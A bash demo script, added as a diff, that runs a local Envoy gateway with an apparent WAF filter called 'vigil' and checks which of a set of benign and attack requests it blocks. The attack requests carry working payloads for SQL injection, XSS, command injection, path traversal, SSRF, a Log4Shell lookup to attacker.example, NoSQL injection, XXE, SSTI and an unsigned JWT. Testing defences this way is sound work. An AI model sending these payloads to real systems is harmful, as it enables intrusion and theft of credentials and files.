@@ -1,0 +1,85 @@
+#!/usr/bin/env bash
+# The vigil demo: the demo API behind Envoy with the vigil filter, a scripted mix of benign and
+# attack requests, then the stats. Run it with `make demo` (which builds everything first).
+# Ports (see envoy/gateway.yaml): gateway 127.0.0.1:10000, admin :9901, demo API :8080.
+set -euo pipefail
+cd "$(dirname "$0")/.."
+
+ENVOY_BIN=${ENVOY_BIN:-.tools/envoy/envoy/_bin/envoy}
+RUN=.run/demo
+mkdir -p "$RUN"
+GATEWAY=http://127.0.0.1:10000
+ADMIN=http://127.0.0.1:9901
+pids=()
+
+cleanup() {
+  trap - INT TERM EXIT
+  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
+  wait 2>/dev/null || true
+  echo "stopped (logs in $RUN/)"
+}
+trap cleanup EXIT
+trap 'exit 130' INT TERM
+
+for port in 8080 9901 10000; do
+  if (exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null; then
+    echo "port $port on 127.0.0.1 is in use; stop whatever holds it and retry" >&2
+    exit 1
+  fi
+done
+
+target/debug/vigil-demo-api --listen 127.0.0.1:8080 --quiet >"$RUN/api.log" 2>&1 &
+pids+=($!)
+"$ENVOY_BIN" -c envoy/gateway.yaml --concurrency 2 --disable-hot-restart --log-level warn >"$RUN/envoy.log" 2>&1 &
+pids+=($!)
+
+# Poll for readiness (never a fixed sleep): Envoy's /ready and the API behind it.
+for _ in $(seq 1 200); do
+  if curl -fsS "$ADMIN/ready" >/dev/null 2>&1 && curl -fsS "$GATEWAY/health" >/dev/null 2>&1; then break; fi
+  if ! kill -0 "${pids[1]}" 2>/dev/null; then echo "Envoy exited:"; tail -20 "$RUN/envoy.log"; exit 1; fi
+  sleep 0.05
+done
+
+printf '\n%-7s %-6s %-44s %s\n' "result" "status" "request" "detail"
+printf '%s\n' "-----------------------------------------------------------------------------------------------"
+send() { # label method path [curl args...]
+  local label=$1 method=$2 path=$3; shift 3
+  local out status body
+  out=$(curl -sS -o "$RUN/body" -w '%{http_code}' -X "$method" "$GATEWAY$path" "$@" || true)
+  status=$out; body=$(head -c 300 "$RUN/body")
+  if [ "$status" = 403 ]; then
+    local rule; rule=$(sed -n 's/.*"rule":"\([^"]*\)".*/\1/p' <<<"$body")
+    printf '\033[31m%-7s\033[0m %-6s %-44s %s\n' BLOCK "$status" "$method ${path:0:38}" "$label -> rule $rule"
+  else
+    printf '\033[32m%-7s\033[0m %-6s %-44s %s\n' ALLOW "$status" "$method ${path:0:38}" "$label"
+  fi
+}
+json=(-H 'content-type: application/json')
+send "benign: user profile"            GET  "/users/1"
+send "benign: search for O'Brien"      GET  "/search?q=O%27Brien"
+send "benign: prose with SQL words"    GET  "/search?q=select%20the%20best%20plan%20from%20our%20list"
+send "benign: login (form)"            POST "/login" -d 'username=alice&password=wonderland'
+send "benign: order with markdown"     POST "/orders" "${json[@]}" -d '{"item":"book","note":"Deliver to **door 2**, <b>fragile</b>"}'
+send "benign: GraphQL-shaped body"     POST "/comments" "${json[@]}" -d '{"query":"query { user(id: 1) { name orders { id } } }"}'
+send "sqli: tautology in query"        GET  "/search?q=1%27%20OR%20%271%27%3D%271"
+send "sqli: double-encoded UNION"      GET  "/search?q=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"
+send "xss: script in JSON body"        POST "/comments" "${json[@]}" -d '{"text":"\u003cscript\u003ealert(document.cookie)\u003c/script\u003e"}'
+send "cmdi: chained command"           GET  "/search?q=x%3B%20cat%20%2Fetc%2Fpasswd"
+send "path traversal"                  GET  "/export?file=..%2F..%2F..%2Fetc%2Fshadow"
+send "ssrf: cloud metadata"            POST "/orders" "${json[@]}" -d '{"webhook":"http://169.254.169.254/latest/meta-data/"}'
+send "log4shell in a header"           GET  "/users/2" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}'
+send "nosqli: operator login"          POST "/login" "${json[@]}" -d '{"username":{"$ne":null},"password":{"$ne":null}}'
+send "xxe: external entity"            POST "/upload" -H 'content-type: application/xml' -d '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+send "ssti: template expression"       GET  "/search?q=%7B%7B7*7%7D%7D"
+send "scanner user agent"              GET  "/users" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)'
+send "jwt: alg none"                   GET  "/orders" -H 'Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbGljZSIsInJvbGUiOiJhZG1pbiJ9.'
+
+echo
+echo "Envoy stats (admin $ADMIN/stats/prometheus, vigil only):"
+curl -fsS "$ADMIN/stats/prometheus" | grep -E '^vigil_' | grep -v ' 0$' | sed 's/^/  /'
+
+if [ -t 0 ] && [ -z "${VIGIL_DEMO_EXIT:-}" ]; then
+  echo
+  echo "Gateway on $GATEWAY (try: curl '$GATEWAY/search?q=%3Cscript%3E'). Ctrl-C to stop."
+  wait "${pids[1]}"
+fi
